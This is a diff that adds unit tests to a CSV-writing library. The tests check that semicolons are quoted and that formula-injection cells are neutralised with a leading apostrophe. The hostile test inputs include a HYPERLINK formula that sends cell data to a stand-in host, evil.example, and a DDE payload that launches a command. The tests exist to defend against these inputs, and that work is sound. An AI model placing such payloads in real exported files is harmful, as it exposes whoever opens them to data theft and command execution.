@@ -30,6 +30,45 @@ describe('csv', () => {
     expect(csvField(-3)).toBe('-3');
   });
 
+  it('quotes a semicolon, the separator of spreadsheets in many locales (issue 46)', () => {
+    expect(csvField('Cash flow; Rising costs')).toBe('"Cash flow; Rising costs"');
+    expect(csvField(';')).toBe('";"');
+    // A row with one: each cell stays one cell whether the reader splits on commas or on semicolons.
+    const row = csvRow(['a;b', 'c', 'd;"e"']);
+    expect(row).toBe('"a;b",c,"d;""e"""\r\n');
+    expect(parseCsv(row)).toEqual([['a;b', 'c', 'd;"e"']]);
+  });
+
+  it.each([
+    ['=1+1', "'=1+1"],
+    [' =1+1', "' =1+1"],
+    ['   +49 30 1234', "'   +49 30 1234"],
+    ['\u00a0@SUM(A1:A9)', "'\u00a0@SUM(A1:A9)"],
+    ['\u3000-2+3', "'\u3000-2+3"],
+    [' \t=1', "' \t=1"],
+    [
+      '=HYPERLINK("http://evil.example/?"&A1;"click")',
+      `"'=HYPERLINK(""http://evil.example/?""&A1;""click"")"`,
+    ],
+    ["@cmd|' /C calc'!A0", "'@cmd|' /C calc'!A0"],
+    ['-', "'-"],
+    ['\0=1', "'\0=1"],
+    ['\r\n=1', `"'\r\n=1"`],
+  ])('neutralises the hostile cell %j, leading spaces or not', (hostile, written) => {
+    expect(csvField(hostile)).toBe(written);
+    // Read back, the cell is the text with its leading quote: a spreadsheet shows it, never runs it.
+    expect(parseCsv(csvRow([hostile]))).toEqual([[`'${hostile}`]]);
+  });
+
+  it('leaves harmless text and our own numbers as they are', () => {
+    expect(csvField('a = b')).toBe('a = b');
+    expect(csvField('  plain')).toBe('  plain');
+    expect(csvField('x-1')).toBe('x-1');
+    expect(csvField(-3)).toBe('-3');
+    expect(csvField(false)).toBe('false');
+    expect(csvField(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
+  });
+
   it('writes records that read back to the same values, emoji and non-ASCII as they are', () => {
     const values = ['Zoë 🚀', 'a,b', '"quoted"', 'multi\r\nline', "'already", 'naïve — ok', ''];
     const text = csvRow(values) + csvRow(['x', 'y']);
